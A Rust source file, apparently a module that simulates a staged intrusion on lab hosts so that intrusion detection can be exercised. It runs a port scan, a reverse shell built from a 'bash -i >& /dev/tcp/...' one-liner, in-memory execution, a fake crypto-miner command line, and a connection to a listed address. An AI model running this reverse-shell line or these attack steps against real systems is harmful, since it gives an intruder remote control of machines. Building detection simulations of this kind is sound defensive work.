//! The attack, act by act. Every act leaves the traces of the real thing and harms nothing.

use std::fs;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::time::Duration;

use anyhow::{Context, Result, ensure};

use super::stage::Stage;
use crate::fleet::{OUTSIDE, address};

/// Ports tried on each target, more than any benign client ever needs.
const SCANNED_PORTS: &str = "150";
/// Where the intruder's listener waits.
const LISTENER_PORT: u16 = 4444;
/// How long the reverse shell may take; four lines are typed into it.
const SHELL_LIMIT: Duration = Duration::from_secs(20);

/// One step of the attack.
#[derive(Debug, Clone, Copy)]
pub struct Act {
    /// What the narrator says.
    pub title: &'static str,
    /// Does it.
    pub run: fn(&Stage) -> Result<()>,
}

/// All acts in order.
pub const ACTS: [Act; 5] = [
    Act { title: "web-1 scans the ports of app-1 and db-1", run: scan },
    Act { title: "app-1 gives a reverse shell to web-1", run: reverse_shell },
    Act { title: "app-1 executes a program from memory", run: fileless },
    Act { title: "app-1 runs a program with a miner's command line", run: miner },
    Act { title: "app-1 connects to a listed address", run: listed_address },
];

fn scan(stage: &Stage) -> Result<()> {
    let targets = ["app-1", "db-1"].map(|host| address(host).ipv4);
    stage.act("web-1", &["scan", "--ports", SCANNED_PORTS, targets[0], targets[1]])
}

fn reverse_shell(stage: &Stage) -> Result<()> {
    let intruder = address("web-1").ipv4;
    let listen = format!("{intruder}:{LISTENER_PORT}");
    let mut listener = stage.start("web-1", stage.actor(), &["listen-shell", &listen])?;
    let said = listener.child().stdout.take().context("the listener has no output")?;
    // Kept until the listener ends, which would otherwise fail to print.
    let mut said = BufReader::new(said);
    said.read_line(&mut String::new()).context("the listener does not listen")?;
    let line = format!("bash -i >& /dev/tcp/{intruder}/{LISTENER_PORT} 0>&1");
    let mut shell = stage.start("app-1", Path::new("/bin/bash"), &["-c", &line])?;
    let status = listener.wait(SHELL_LIMIT)?;
    ensure!(status.success(), "the listener ended with {status}");
    shell.wait(SHELL_LIMIT).map(drop)
}

fn fileless(stage: &Stage) -> Result<()> {
    stage.act("app-1", &["memfd-exec", "/bin/sleep", "0.2"])
}

fn miner(stage: &Stage) -> Result<()> {
    // The copy only sleeps; its name and arguments are what makes it look like a miner.
    let program = stage.folder().join("xmrig");
    fs::copy(stage.actor(), &program).context("failed to copy the pretended miner")?;
    let arguments = ["-o", "stratum+tcp://pool.example:3333", "-u", "WALLET", "--donate-level=1"];
    let status = stage.run("app-1", &program, &arguments)?;
    ensure!(status.success(), "the pretended miner ended with {status}");
    Ok(())
}

fn listed_address(stage: &Stage) -> Result<()> {
    stage.act("app-1", &["connect", &format!("{}:443", address(OUTSIDE).ipv4)])
}
